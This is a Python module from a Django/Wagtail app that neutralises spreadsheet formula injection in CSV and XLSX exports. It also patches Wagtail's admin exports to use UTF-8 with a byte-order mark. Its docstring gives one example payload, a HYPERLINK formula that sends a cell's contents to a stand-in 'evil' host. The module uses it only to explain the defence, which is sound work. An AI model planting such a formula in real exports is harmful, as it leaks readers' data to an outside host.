"""Spreadsheet exports that cannot run formulas (CSV/formula injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets; a title such as
``=HYPERLINK("http://evil/?"&A1)`` would run on the reader's machine. ``spreadsheet_safe``
prefixes such text with an apostrophe, which spreadsheets show as text. Numbers and dates
pass unchanged.

Every export goes through it: the app's own CSVs call it, and ``neutralise_admin_exports``
(run once at start-up) routes every Wagtail admin export through it, for CSV and XLSX alike:
the library's reports (needs review, coverage, document processing, rep feedback), Wagtail's
own (locked pages, site history, form submissions...) and any report added later, since they
all share Wagtail's ``SpreadsheetExportMixin``.

Every CSV download is UTF-8, said twice: in its Content-Type (``CSV_CONTENT_TYPE``) and by a
byte-order mark before its first cell (``CSV_BOM``). Excel reads a CSV without the mark in the
machine's legacy code page, so "Ünïcödé" opened as "ÃœnÃ¯cÃ¶dÃ©"; other readers skip it
(LibreOffice, Google Sheets, pandas, Python's "utf-8-sig"). ``admin_csv_as_utf8`` does the
same for Wagtail's admin exports, which were sent as bare ``text/csv`` with no mark.
"""

from __future__ import annotations

from django.utils.encoding import force_str
from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
CSV_BOM = "\ufeff"


def spreadsheet_safe(value):
    """``value`` as a spreadsheet cell that is never a formula; None becomes ""."""
    if value is None:
        return ""
    if isinstance(value, Promise):
        value = force_str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_admin_exports() -> None:
    """Make Wagtail's SpreadsheetExportMixin pass every cell through ``spreadsheet_safe``.

    Wagtail has no hook for export cells, so its one preprocessing method is wrapped; the
    wrapper is idempotent. tests/test_exports.py checks every export view the admin serves.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralised", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        return spreadsheet_safe(original(self, field, value, export_format))

    preprocess_field_value.neutralised = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value


def admin_csv_as_utf8() -> None:
    """Make Wagtail's SpreadsheetExportMixin send its CSV as ``CSV_CONTENT_TYPE``, starting
    with ``CSV_BOM``, as the app's own CSVs are (it sends bare ``text/csv``, no mark).

    Wagtail has no setting for either, so its stream and its response are wrapped; the
    wrappers are idempotent. tests/test_exports.py checks every CSV export the admin serves."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    stream, respond = SpreadsheetExportMixin.stream_csv, SpreadsheetExportMixin.write_csv_response
    if getattr(respond, "as_utf8", False):
        return

    def stream_csv(self, queryset):
        yield CSV_BOM
        yield from stream(self, queryset)

    def write_csv_response(self, queryset):
        response = respond(self, queryset)
        response["Content-Type"] = CSV_CONTENT_TYPE
        return response

    write_csv_response.as_utf8 = True
    SpreadsheetExportMixin.stream_csv = stream_csv
    SpreadsheetExportMixin.write_csv_response = write_csv_response
